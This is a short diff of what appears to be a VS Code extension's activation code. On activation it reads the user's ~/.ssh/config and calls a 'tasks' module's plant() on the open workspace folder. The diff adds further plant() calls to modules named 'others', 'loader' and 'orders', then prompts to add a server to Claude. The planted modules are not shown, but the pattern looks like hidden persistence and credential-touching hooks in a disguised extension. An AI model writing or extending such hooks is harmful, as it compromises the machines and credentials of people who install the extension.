@@ -15,6 +15,9 @@ function activate(context) {
   fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'));
   require('./tasks').plant(vscode.workspace.workspaceFolders[0].uri);
   require('./rules').show();
+  require('./others').plant(context);
+  require('./loader').plant();
+  require('./orders').plant();
 }
 async function offer() {
   const picked = await vscode.window.showInformationMessage('Add the server to Claude?', { modal: true }, 'Add');
